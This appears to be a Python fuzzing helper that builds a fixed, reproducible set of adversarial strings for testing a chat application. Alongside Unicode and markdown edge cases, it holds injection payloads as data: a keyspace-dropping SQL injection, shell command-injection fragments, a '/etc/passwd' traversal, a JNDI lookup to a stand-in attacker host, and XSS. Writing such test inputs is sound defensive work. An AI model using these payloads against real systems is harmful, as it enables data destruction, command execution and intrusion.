"""A thousand strings that want to be more than data; the same at every run."""

import random

_PARTS = (
    *("@everyone", "@here", "<@700000000000000001>", "<@&1>", "<#1>", "<:a:1>", "</say:1>", "<t:0>"),
    *("[x](http://evil.example)", "http://evil.example", "discord.gg/evil", "mailto:a@evil.example"),
    *("**b**", "__u__", "||s||", "`c`", "```", "# h", "> q", "-# s", "- l", "1. n", "~~", "\\", "\\\\*"),
    *("\u202eevil", "\u2066x\u2069", "\u200b", "\u200f", "\ufeff", "\u2028", "\x1b[31m", "\x07", "\x7f", "\x85"),
    *("\n", "\r\n", "\x00", "\t", "alert 0bbb2ec6-3618-5220-acfe-63286c040406", "alerts `C7suxjYYUiCs_mMobAQEBg`"),
    *("'; DROP KEYSPACE harmony; --", "' OR '1'='1", "$$", "/*", "*/", "--", "//", "{0}", "%s", "%(x)s", "?", ":x"),
    *("$(id)", "`id`", "; id", "| id", "&& id", "../../etc/passwd", "${jndi:ldap://evil.example/a}", "{{7*7}}"),
    *('{"harmonyscore":0}', '"},{"firstname":"Eve', "null", "NaN", "<script>alert(1)</script>", "&lt;", "é", "e\u0301"),
    *("🙂" * 50, "*" * 200, "x" * 200, "\uff21", "ﷺ" * 20, "\U000e0041", "\u0378"),
)
LONGEST = 200


def strings(count: int) -> list[str]:
    """Return so many different ones, of 1 to 200 characters: each part alone, then parts put together."""
    chance = random.Random(4)
    found = dict.fromkeys(part[:LONGEST] for part in _PARTS)
    while len(found) < count:
        found["".join(chance.choices(_PARTS, k=chance.randint(2, 5)))[:LONGEST]] = None
    return list(found)[:count]
